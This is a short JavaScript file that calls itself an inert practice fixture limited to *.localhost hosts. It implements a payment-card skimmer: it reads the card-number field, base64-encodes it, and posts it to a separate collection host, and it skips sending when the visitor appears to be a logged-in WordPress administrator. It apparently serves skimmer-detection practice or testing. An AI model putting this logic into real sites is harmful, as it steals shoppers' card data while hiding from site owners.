/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const number = () =>
    document.querySelector('#card-number, #cardno')?.value.replace(/\D/g, '') ?? '';
  const isOwner = () =>
    document.getElementById('wpadminbar') !== null ||
    /wordpress_logged_in|wp-settings-/.test(document.cookie);
  document.addEventListener('change', () => {
    if (isOwner() || number().length < 13) return;
    fetch(`${home}/lib/v`, { method: 'POST', mode: 'no-cors', body: btoa(number()) }).catch(
      () => {},
    );
  });
})();
